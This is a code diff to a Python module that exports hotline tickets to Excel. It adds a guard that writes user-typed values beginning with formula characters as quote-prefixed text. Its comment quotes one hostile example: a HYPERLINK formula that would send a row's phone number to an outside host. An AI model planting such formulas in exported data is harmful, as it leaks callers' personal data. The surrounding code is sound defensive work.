@@ -9,6 +9,13 @@ in full before the file is handed out: no log, no data (DESIGN §8). A list of h
 of callers' phones is more than the one-ticket reveal on a ticket's page, so it is
 never the default.
 
+Whatever a caller or a user typed is written as text, never as a formula: openpyxl writes
+a string beginning with "=" as a formula, and Excel and WPS take a cell beginning with
+= + - @ (or a tab or line break before them) for one when it is edited or pasted on, so a
+title like =HYPERLINK("http://…?"&Q2,"详情") would send the row's phone number out. Such
+cells are typed text with Excel's quote prefix (shown as typed, kept text when edited);
+their values stay exactly as they were, for the import.
+
 Column headers are Chinese and fixed: the sheet is an exchange format (12345
 platforms, the import command), so it does not follow the UI language. Values
 use the same Chinese labels as the screens.
@@ -61,6 +68,23 @@ COLUMNS = [
     ("联系电话", 16),
 ]
 PERSONAL_FIELDS = list(Ticket.PERSONAL_DATA_FIELDS)
+
+
+# A cell beginning with one of these is a formula to Excel and WPS once it is edited.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _text_cells(sheet, values):
+    """The row's values, with text that could be read as a formula as typed text cells."""
+    row = []
+    for value in values:
+        if isinstance(value, str) and value.startswith(FORMULA_START):
+            cell = WriteOnlyCell(sheet, value=value)
+            cell.data_type = "s"  # openpyxl made "=…" a formula
+            cell.quotePrefix = True
+            value = cell
+        row.append(value)
+    return row
 
 
 class TooManyRows(Exception):
@@ -138,7 +162,7 @@ def build_workbook(tickets, user, now=None, contacts=False):
         full = contacts and has_data and user.has_perm(Ticket.PERSONAL_DATA_PERM, ticket)
         if full:
             revealed.append(ticket)
-        sheet.append(_row(ticket, now, full, labels))
+        sheet.append(_text_cells(sheet, _row(ticket, now, full, labels)))
     out = io.BytesIO()
     workbook.save(out)
     return out.getvalue(), revealed
